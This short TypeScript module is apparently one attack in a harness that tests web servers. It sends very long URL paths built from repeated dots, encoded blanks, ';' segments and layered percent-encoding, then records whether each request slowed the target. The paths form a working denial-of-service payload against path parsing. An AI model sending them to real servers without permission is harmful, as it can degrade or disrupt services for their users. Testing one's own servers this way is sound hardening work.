import { type Attack, outcomeOf } from "./attack.ts";
import { tryToDelay } from "./costs.ts";

/** Every layer of encoding and every sign that servers read in two ways doubles the readings of a long path. */
const TAIL = "x/;a/%253Bb/%253Fc/%EF%BD%81";

const attack: Attack = {
  does: "asks for paths of dots, blanks and layers of encoding that are long to read in every way",
  run: async (target) => {
    const paths = [
      `/${".".repeat(15_500)}${TAIL}`,
      `/${".".repeat(8_000)}${TAIL}`,
      `/${"%20".repeat(2_600)}${TAIL}`,
      `/${"/;a".repeat(2_600)}${TAIL}`,
      `/${"%2525252e/".repeat(800)}`,
    ];
    const seen: (readonly [boolean, string])[] = [];
    for (const path of paths) {
      for (const [good, line] of await tryToDelay(target, { target: path }))
        seen.push([good, `${path.slice(0, 12)}… (${path.length} characters): ${line}`]);
    }
    return outcomeOf(seen);
  },
};

export default attack;
